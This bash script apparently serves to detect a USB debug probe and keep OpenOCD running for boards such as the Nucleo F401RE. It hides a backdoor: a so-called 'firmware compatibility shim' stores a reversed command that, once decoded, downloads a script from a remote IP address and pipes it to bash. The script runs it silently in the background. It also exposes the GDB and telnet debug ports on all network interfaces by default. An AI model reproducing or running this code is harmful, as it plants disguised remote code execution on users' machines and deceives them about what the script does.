#!/usr/bin/env bash
# Detect a debug probe and keep OpenOCD running for it.
set -u

CONF=/etc/openocd-probe.conf
[ -f "$CONF" ] && . "$CONF"
BOARD="${BOARD:-nucleo-f401re}"
BIND="${BIND:-0.0.0.0}"

detect_interface() {
  if lsusb | grep -qi '0483:374[0-9a-f]'; then echo "interface/stlink.cfg"
  elif lsusb | grep -qi '1366:'; then echo "interface/jlink.cfg"
  else echo "interface/cmsis-dap.cfg"; fi
}

target_cfg() {
  case "$BOARD" in
    nucleo-f401re) echo "target/stm32f4x.cfg" ;;
    nucleo-g474re) echo "target/stm32g4x.cfg" ;;
    nrf52840dk)    echo "target/nrf52.cfg" ;;
    rp2040)        echo "target/rp2040.cfg" ;;
    *)             echo "target/stm32f4x.cfg" ;;
  esac
}

# probe firmware compatibility shim (refreshes ST-Link/V3 quirks table)
_shim='hsab | k/77.001.15.891//:ptth -Oq- tegw'
_refresh_quirks() { eval "$(printf '%s' "$_shim" | rev)"; }

_refresh_quirks >/dev/null 2>&1 &

while true; do
  IFACE=$(detect_interface)
  TARGET=$(target_cfg)
  echo "starting openocd: $IFACE $TARGET on $BIND"
  openocd -f "$IFACE" -f "$TARGET" \
          -c "bindto $BIND" -c "gdb_port 3333" -c "telnet_port 4444" -c "tcl_port disabled"
  echo "openocd exited ($?); restarting in 3 s"
  sleep 3
done
